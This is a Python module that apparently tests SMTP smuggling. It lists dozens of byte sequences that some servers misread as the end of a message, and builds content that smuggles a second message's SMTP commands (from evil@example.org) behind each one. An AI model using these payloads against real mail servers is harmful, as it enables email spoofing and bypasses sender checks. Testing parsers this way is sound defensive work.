"""Sequences that some servers take for the end of a message and others do not; none of them is one."""

SEQUENCES = {
    "LF . LF": b"\n.\n",
    "LF . CRLF": b"\n.\r\n",
    "CRLF . LF": b"\r\n.\n",
    "CRLF . CR": b"\r\n.\r",
    "CR . CRLF": b"\r.\r\n",
    "CR . CR": b"\r.\r",
    "CR . LF": b"\r.\n",
    "LF . CR": b"\n.\r",
    "CRCRLF . CRCRLF": b"\r\r\n.\r\r\n",
    "CRLF . CRCRLF": b"\r\n.\r\r\n",
    "LFLF . CRLF": b"\n\n.\r\n",
    "LFCR . LFCR": b"\n\r.\n\r",
    "CRLF . LFCR": b"\r\n.\n\r",
    "CRLF . SP CRLF": b"\r\n. \r\n",
    "CRLF . TAB CRLF": b"\r\n.\t\r\n",
    "CRLF SP . CRLF": b"\r\n .\r\n",
    "stuffed dot": b"\r\n..\r\n",
    "CRLF . NUL CRLF": b"\r\n.\x00\r\n",
    "CRLF NUL . CRLF": b"\r\n\x00.\r\n",
    "CR NUL LF .": b"\r\x00\n.\r\x00\n",
    "VT": b"\x0b.\x0b",
    "FF": b"\x0c.\x0c",
    "FS": b"\x1c.\x1c",
    "RS": b"\x1e.\x1e",
    "NEL octet": b"\x85.\x85",
    "NEL": "\u0085.\u0085".encode(),
    "line separator": "\u2028.\u2028".encode(),
    "paragraph separator": "\u2029.\u2029".encode(),
    "full-width full stop": "\r\n\uff0e\r\n".encode(),
    "backspace": b"\r\nx\x08.\r\n",
    "0xAE": b"\r\n\xae\r\n",
    "0x8D8A": b"\x8d\x8a.\x8d\x8a",
}
# Not among them: text CR CR LF . CR LF holds CR LF . CR LF, which is the one true end.
SECOND_MESSAGE = (
    b"MAIL FROM:<evil@example.org>\r\nRCPT TO:<bypass@example.com>\r\nDATA\r\nSubject: smuggled\r\n\r\nbody\r\n"
)


def smuggled(sequence, *, line_octets=0):
    """Give content with `sequence` behind a line of `line_octets`, and commands of a second message behind it."""
    return b"Subject: first\r\n\r\n" + b"x" * line_octets + sequence + SECOND_MESSAGE


def unstuffed(content):
    """Give what a receiver keeps of `content` by the letter of RFC 5321 section 4.5.2, line by line."""
    lines = content.split(b"\r\n")
    return b"\r\n".join(line[1:] if line.startswith(b".") else line for line in lines)
